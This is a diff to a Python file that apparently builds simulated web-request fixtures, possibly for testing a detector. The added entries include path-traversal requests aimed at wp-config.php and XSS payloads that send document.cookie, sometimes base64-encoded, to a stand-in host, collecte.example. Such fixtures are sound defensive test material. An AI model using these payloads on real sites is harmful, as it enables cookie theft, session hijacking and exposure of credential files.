@@ -49,6 +49,8 @@ def _document(visit: int) -> tuple[tuple[str, int, int, str], ...]:
         ("programme-2017.pdf", 200, 880_120, ""), (f"{deeper}wp-config.php", 403, 146, CLIMB), (f"pdf/{deeper}wp-config.php", 403, 146, CLIMB),
         (f"pdf/{deeper}wp-config.php%00.pdf", 404, 1254, CLIMB), (f"pdf/2017/{deeper}wp-config.php", 403, 146, CLIMB),
         (f"pdf/2017/../{deeper}wp-config.php", 404, 1254, CLIMB),
+        (f"pdf/2017/01/{deeper}../wp-config.php", 404, 1254, CLIMB), (f"pdf/2017/01/{deeper}../wp-config.php.pdf", 404, 1254, CLIMB),
+        (f"pdf/{deeper}wp-content/../wp-config.php", 403, 146, CLIMB),
     )  # fmt: skip
 
 
@@ -59,6 +61,9 @@ def _press(visit: int) -> tuple[tuple[str, int, int, str], ...]:
         ("communiqué\"><script src=//collecte.example/p.js></script>", 403, 146, SCRIPT),
         ("communiqué\"><svg onload=\"fetch('//collecte.example/'+document.cookie)\">", 200, 9_418, SCRIPT),
         (f"communiqué\"><svg onload=\"fetch('//collecte.example/{visit}?'+document.cookie)\">", 200, 9_420, SCRIPT),
+        ("communiqué\"><svg onload=\"fetch('//collecte.example/'+btoa(document.cookie))\">", 200, 9_424, SCRIPT),
+        (f"communiqué {visit}\"><svg/onload=\"fetch('//collecte.example/'+btoa(document.cookie))\">", 403, 146, SCRIPT),
+        (f"communiqué {visit}\"><svg/onload=\"location='//collecte.example/'+btoa(document.cookie)\">", 200, 9_431, SCRIPT),
     )  # fmt: skip
 
 
